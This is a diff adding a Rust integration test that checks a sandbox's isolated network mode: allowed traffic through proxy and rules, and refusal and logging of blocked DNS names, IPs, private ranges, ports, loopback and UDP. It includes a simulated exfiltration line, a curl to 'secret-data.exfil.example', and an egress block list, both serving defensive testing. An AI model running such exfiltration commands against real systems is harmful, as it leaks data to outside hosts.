@@ -1,0 +1,105 @@
+//! `OCSB_NETWORK=isolated`, as an ordinary user with no netlock group and no shim types it: the
+//! sandbox has a network namespace of its own, and everything that leaves it goes through the
+//! launcher — the proxy port, the forwarded ports, every other TCP connection (judged by the
+//! same rules, logged with `file:line`), and DNS (a denied name is never asked for outside).
+//!
+//! The world: an origin namespace (192.0.2.1 and .2) with an HTTP server, a service that speaks
+//! first (as sshd does), and a name server that logs every question; the launcher's resolver
+//! is pointed at it through a private mount of `/etc/resolv.conf`.
+
+use crate::support::sandbox::{ORIGIN_NS, World, has, scenario};
+
+const DNS_PY: &str = include_str!("../support/dns.py");
+
+#[test]
+fn an_isolated_sandbox_reaches_only_what_the_rules_and_the_forwards_allow() {
+    let w = World::new();
+    let dns = w.root.join("bin/dns.py");
+    std::fs::write(&dns, DNS_PY).unwrap();
+    let body = format!(
+        r#"{ORIGIN_NS}export ON
+        ip -n "$ON" addr add 192.0.2.2/24 dev ot$$
+        SRV=$(mktemp -d); echo origin-ok > "$SRV/hello.txt"; chmod -R a+rX "$SRV"
+        Q=$(mktemp); chmod 666 "$Q"
+        O python3 {dns} 192.0.2.1 "$Q" & 
+        O python3 -m http.server 80 --bind 0.0.0.0 --directory "$SRV" >/dev/null 2>&1 &
+        O python3 -c 'import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("192.0.2.1", 2222)); s.listen(8)
+while True:
+    c, _ = s.accept(); c.sendall(b"SSH-2.0-world\r\n"); c.close()' &
+        python3 -c 'import socket, sys, time
+ls = []
+for p in (7001, 7002):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", p)); s.listen(8); ls.append(s)
+import threading
+def serve(s):
+    while True:
+        c, _ = s.accept(); c.sendall(b"host-%d\n" % s.getsockname()[1]); c.close()
+for s in ls: threading.Thread(target=serve, args=(s,), daemon=True).start()
+time.sleep(60)' ocsb-isolated-marker &
+        mkdir -p .opencode-sandbox/local
+        printf 'OCSB_NETWORK=isolated\nOCSB_FORWARD_PORTS=(7002)\n' > .opencode-sandbox/local/sandbox.conf
+        printf 'block .exfil.example\nblock 192.0.2.2\nconnect svc.example.test:2222\n' > .opencode-sandbox/local/egress.conf
+        chown -R 1990 .opencode-sandbox/local
+        R=$(mktemp); echo 'nameserver 192.0.2.1' > "$R"; chmod 644 "$R"
+        sleep 0.5
+        timeout 60 unshare --mount --propagation private bash -c "mount --bind $R /etc/resolv.conf
+          env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=\"$HOME\" setpriv --reuid 1990 --regid 1990 --clear-groups -- \
+            \"$OCSB\" exec -- sh -c '
+            id -G
+            echo proxied \$(curl -s --max-time 10 http://www.example.test/hello.txt)
+            echo direct \$(curl -s --noproxy \"*\" --max-time 10 http://www.example.test/hello.txt)
+            echo python \$(env -u http_proxy -u HTTP_PROXY python3 -c \"import urllib.request; print(urllib.request.urlopen(\\\"http://www.example.test/hello.txt\\\", timeout=10).read().decode().strip())\")
+            echo node \$(node -e \"fetch(\\\"http://www.example.test/hello.txt\\\").then(r => r.text()).then(t => console.log(t.trim()), e => console.log(e.cause ? e.cause.code : e))\")
+            echo ssh-like \$(python3 -c \"import socket; print(socket.create_connection((\\\"svc.example.test\\\", 2222), timeout=10).recv(64).decode().strip())\")
+            curl -s --noproxy \"*\" --max-time 10 http://secret-data.exfil.example/ >/dev/null; echo exfil-name \$?
+            curl -s --noproxy \"*\" --max-time 10 http://192.0.2.2/hello.txt >/dev/null; echo blocked-ip \$?
+            curl -s --noproxy \"*\" --max-time 10 http://10.0.0.1/ >/dev/null; echo private-ip \$?
+            curl -s --noproxy \"*\" --max-time 10 http://192.0.2.1:8080/ >/dev/null; echo other-port \$?
+            echo fwd \$(python3 -c \"import socket; print(socket.create_connection((\\\"127.0.0.1\\\", 7002), timeout=5).recv(64).decode().strip())\")
+            python3 -c \"import socket, errno
+try: socket.create_connection((\\\"127.0.0.1\\\", 7001), timeout=5); print(\\\"host-loopback open\\\")
+except OSError as e: print(\\\"host-loopback\\\", errno.errorcode.get(e.errno, e))\"
+            python3 -c \"import socket, errno
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try: u.sendto(b\\\"x\\\", (\\\"192.0.2.1\\\", 9)); print(\\\"udp sent\\\")
+except OSError as e: print(\\\"udp\\\", errno.errorcode.get(e.errno, e))\"
+          ' </dev/null 2>&1"
+        echo "queries: $(sort -u "$Q" | tr '\n' ' ')"
+        echo "log:"; U "$OCSB" egress logs --no-follow 2>&1 | sed 's/^/  /'
+        ip netns pids "$ON" | xargs -r kill; pkill -f ocsb-isolated-marker; ip netns del "$ON""#,
+        dns = w.root.join("bin/dns.py").display(),
+    );
+    let (out, err) = scenario(&w, &body);
+    // Not the netlock group: the user's own, and nothing else.
+    has(&out, "1990", &err);
+    has(&out, "proxied origin-ok", &err);
+    has(&out, "direct origin-ok", &err);
+    has(&out, "python origin-ok", &err);
+    has(&out, "node origin-ok", &err); // Node's fetch never reads the proxy variables
+    has(&out, "ssh-like SSH-2.0-world", &err);
+    has(&out, "exfil-name 6", &err); // could not resolve: the stub refused the name
+    for refused in ["blocked-ip", "private-ip", "other-port"] {
+        let line = out.lines().find(|l| l.starts_with(refused)).unwrap_or_default();
+        assert!(
+            ["52", "56", "7"].iter().any(|c| line.ends_with(&format!(" {c}"))),
+            "{refused}: {line}\n{out}\n{err}"
+        );
+    }
+    has(&out, "fwd host-7002", &err);
+    has(&out, "host-loopback ECONNREFUSED", &err);
+    has(&out, "udp EPERM", &err);
+    let queries = out.lines().find(|l| l.starts_with("queries:")).unwrap_or_default();
+    assert!(queries.contains("www.example.test"), "{out}\n{err}");
+    assert!(!queries.contains("exfil"), "a denied name left the machine: {queries}");
+    // The host side: each refusal in the filter's log with its rule and `file:line`.
+    for line in [
+        "DENY  000 DNS secret-data.exfil.example rule=block:local:1",
+        "DENY  403 CONNECT 192.0.2.2:80 rule=block:local:2",
+        "DENY  403 CONNECT 10.0.0.1:80 rule=private",
+        "allow 200 CONNECT svc.example.test:2222 rule=connect:local:3 → 192.0.2.1",
+        "allow 200 CONNECT www.example.test:80 rule=default → 192.0.2.1",
+    ] {
+        assert!(out.lines().any(|l| l.ends_with(line)), "missing log line {line:?}\n{out}\n{err}");
+    }
+}
